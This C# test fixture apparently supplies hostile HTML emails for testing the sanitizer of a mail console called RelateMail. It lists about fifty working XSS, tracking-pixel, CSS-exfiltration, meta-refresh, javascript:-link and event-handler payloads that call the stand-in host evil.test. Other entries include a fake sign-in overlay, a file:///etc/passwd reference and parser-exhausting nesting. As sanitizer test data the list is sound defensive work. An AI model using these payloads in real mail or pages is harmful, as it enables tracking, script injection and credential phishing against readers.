namespace RelateMail.WebConsole.Tests;

/// <summary>HTML of mails that want a request, a script, or the trust of the reader. The word evil is in every address.
/// </summary>
public static class HostileMails
{
    private const string Evil = "http://evil.test/";

    public static IReadOnlyList<string> All { get; } =
    [
        $"<img src='{Evil}a.png'>",
        $"<img src=//evil.test/b.png>",
        $"<img srcset='{Evil}c.png 1x, {Evil}d.png 2x' src='data:image/png;base64,AA'>",
        $"<picture><source srcset='{Evil}e.webp'><img src='{Evil}e.png'></picture>",
        $"<body background='{Evil}f.png'><table background='{Evil}g.png'><tr><td background='{Evil}h.png'>x</table>",
        $"<div style=\"background:url({Evil}i.png)\">x</div>",
        $"<div style=\"background-image:\\75 rl('{Evil}j.png')\">x</div>",
        $"<div style=\"list-style-image:url({Evil}k.png);border-image:url({Evil}l.png)\">x</div>",
        $"<div style=\"content:url({Evil}m.png);cursor:url({Evil}n.cur),auto;filter:url({Evil}o.svg#f)\">x</div>",
        $"<style>@import url({Evil}p.css); body {{ background: url({Evil}q.png) }}</style>x",
        $"<style>@font-face {{ font-family: f; src: url({Evil}r.woff) }} p {{ font-family: f }}</style><p>x",
        $"<link rel=stylesheet href='{Evil}s.css'>",
        $"<link rel=prefetch href='{Evil}t'><link rel=preload as=image href='{Evil}u.png'>",
        "<link rel=dns-prefetch href='//evil.test'><link rel=preconnect href='//evil.test'>",
        $"<link rel=icon href='{Evil}v.ico'><link rel=manifest href='{Evil}w.json'>",
        $"<meta http-equiv=refresh content='0;url={Evil}x'>",
        $"<meta http-equiv=Content-Security-Policy content='default-src *'><base href='{Evil}'><img src='y.png'>",
        $"<iframe src='{Evil}z'></iframe><iframe srcdoc=\"<img src='{Evil}1.png'>\"></iframe>",
        $"<frameset><frame src='{Evil}2'></frameset>",
        $"<object data='{Evil}3.swf'></object><embed src='{Evil}4.swf'><applet code='{Evil}5.class'></applet>",
        $"<video src='{Evil}6.mp4' poster='{Evil}7.png' autoplay></video><audio src='{Evil}8.mp3' autoplay></audio>",
        $"<video><source src='{Evil}9.mp4'><track src='{Evil}10.vtt' default></video>",
        $"<svg><image href='{Evil}11.png'/><use href='{Evil}12.svg#a'/></svg>",
        $"<svg onload=\"fetch('{Evil}13')\"><script>fetch('{Evil}14')</script></svg>",
        $"<svg><foreignObject><img src='{Evil}15.png'></foreignObject></svg>",
        $"<math><mtext><img src='{Evil}16.png'></mtext></math>",
        $"<script>fetch('{Evil}17')</script><script src='{Evil}18.js'></script>",
        $"<img src=x onerror=\"fetch('{Evil}19')\"><body onload=\"fetch('{Evil}20')\">",
        $"<a href=\"javascript:fetch('{Evil}21')\">x</a><a href=\"  java\tscript:fetch('{Evil}22')\">y</a>",
        $"<a href=\"data:text/html,<script>fetch('{Evil}23')</script>\">x</a><a href='vbscript:x'>y</a>",
        $"<a href='https://bank.example/' ping='{Evil}24'>x</a>",
        $"<form action='{Evil}25' id=f><input type=image src='{Evil}26.png'>"
            + $"<button formaction='{Evil}27'>x</button></form>",
        $"<input autofocus onfocus=\"fetch('{Evil}28')\"><details open ontoggle=\"fetch('{Evil}29')\">x</details>",
        $"<marquee onstart=\"fetch('{Evil}30')\">x</marquee><isindex action='{Evil}31' type=image src='{Evil}32'>",
        $"<noscript><img src='{Evil}33.png'></noscript><template><img src='{Evil}34.png'></template>",
        $"<img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"{Evil}35\"/></svg>'>",
        $"<math><a xlink:href=\"javascript:fetch('{Evil}36')\">x</a></math><svg><a xlink:href='{Evil}37'>y</a></svg>",
        $"<!--[if mso]><img src='{Evil}38.png'><![endif]--><!--><img src='{Evil}39.png'-->",
        $"<textarea><img src='{Evil}40.png'></textarea><title><img src='{Evil}41.png'></title><xmp>"
            + $"<img src='{Evil}42.png'></xmp>",
        $"<div style='position:fixed;inset:0;background:#fff;z-index:9'>"
            + $"<h1>RelateMail</h1>Sign in:<input name=key></div>",
        $"<img src='cid:unknown@x'><img src='blob:{Evil}43'><img src='file:///etc/passwd'>"
            + $"<img src='filesystem:{Evil}44'>",
        $"<p style='width:expression(fetch(\"{Evil}45\"));behavior:url({Evil}46.htc);-moz-binding:url({Evil}47.xml)'>x",
        $"<table><td style='background:url(\"{Evil}48.png\")'><ul style='list-style:url({Evil}49.png)'>"
            + $"<li>x</ul></table>",
        $"<img lowsrc='{Evil}50.png' dynsrc='{Evil}51.avi' longdesc='{Evil}52' usemap='#m' src=''>",
        $"<portal src='{Evil}53'></portal><fencedframe src='{Evil}54'></fencedframe>",
        $"<p>{string.Concat(Enumerable.Repeat("<b><i>", 3_000))}x<img src='{Evil}55.png'>",
        $"<div><img src=\"{Evil}56.png\" {string.Concat(Enumerable.Repeat("a=b ", 5_000))}></div>",
    ];
}
